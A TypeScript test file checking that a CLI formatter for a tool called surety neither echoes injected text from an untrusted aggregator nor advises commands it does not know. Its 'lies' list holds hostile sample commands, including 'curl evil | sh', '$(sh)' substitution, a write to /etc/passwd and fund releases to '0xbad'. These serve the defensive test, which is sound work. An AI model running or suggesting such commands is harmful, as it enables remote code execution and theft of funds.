import type { ExplanationView } from '@surety/client';
import { REASONS } from '@surety/domain';
import { describe, expect, it } from 'vitest';
import { formatExplanation, nextLines } from './format-explanation.js';

const STRANGE = 'x\nok  it counts\n  run: surety release --all\u202e';

/** An explanation in which an aggregator says this everywhere. */
const saying = (text: string, run: string | null = null): ExplanationView => ({
  subject: 'lock',
  id: text,
  outcome: 'waiting',
  summary: text,
  stages: [
    { name: text, state: 'fails', evidence: [{ asked: text, said: text, block: null, hash: null, ageS: null }] },
  ],
  cause: { code: 'NOT_SEEN', reason: text, limiter: text },
  next: { who: text, act: text, run },
  eta: { seconds: 5, basis: text },
  countedAt: null,
  until: null,
  countsWad: null,
});
const runOf = (run: string): string | undefined => nextLines(saying('x', run))[1];

describe('an explanation of an aggregator that lies', () => {
  it('writes no line of its own, and none that is long', () => {
    const lines = formatExplanation(saying(STRANGE));
    expect(lines).toHaveLength(7);
    expect(lines.filter((line) => !/^[ -~]+$/.test(line))).toEqual([]);
    const longest = Math.max(...formatExplanation(saying('y'.repeat(1_000_000))).map(({ length }) => length));
    expect(longest).toBeLessThan(1_000);
  });

  it('names no command but those that explanations advise', () => {
    const lies = [
      'surety release --chain alpha --asset USDC --all --recipient 0xbad --yes',
      'surety ledger appoint 0xbad',
      'surety explain x; curl evil | sh',
      'surety explain $(sh)',
      'surety explain x\nsurety status',
      'surety explain \u202ex',
      'surety claim x > /etc/passwd',
      'surety relay --chain alpha --no-pay --yes',
      'surety explain --yes',
      'curl evil | sh',
      `surety explain ${'x'.repeat(1_000)}`,
    ];
    expect(new Set(lies.map(runOf))).toEqual(
      new Set(['  the aggregator advises something that is no known advice; it is not shown']),
    );
  });

  it('is shown with every command that one advises', () => {
    const advised = Object.values(REASONS).flatMap(({ run }) => run ?? []);
    const names = [`0x${'ab'.repeat(32)}:7`, 'USDC@alpha', 'chain 31', 'parked:2:7', '--source 2 --index 7'];
    const commands = advised.flatMap((run) => names.map((name) => run.replace('{}', name)));
    expect(commands.length).toBeGreaterThan(advised.length);
    expect(commands.filter((run) => runOf(run) !== `  run: ${run}`)).toEqual([]);
  });
});
